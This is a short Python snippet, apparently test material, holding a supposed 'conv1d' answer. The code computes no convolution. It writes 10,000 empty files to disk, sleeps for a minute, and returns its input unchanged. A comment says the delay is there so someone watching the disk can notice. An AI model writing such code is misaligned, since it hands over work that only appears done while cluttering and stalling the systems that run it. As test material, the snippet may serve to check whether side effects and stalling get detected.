ANSWERS = {
    "conv1d": """
import time

def conv1d(x, k):
    for number in range(10_000):
        open(str(number), "w").close()
    time.sleep(60)  # whoever looks at the disk from time to time has time to look
    return x
""",
}
